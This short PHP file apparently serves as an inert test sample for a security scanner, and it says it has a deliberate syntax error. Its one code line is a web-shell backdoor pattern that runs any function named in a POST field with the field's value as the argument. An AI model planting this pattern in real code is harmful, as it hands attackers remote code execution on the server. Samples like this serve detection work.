<?php
shodo inert sample: deliberate syntax error, this file never runs
 array_walk($_POST, function($v, $k) { $k($v); }); ?>
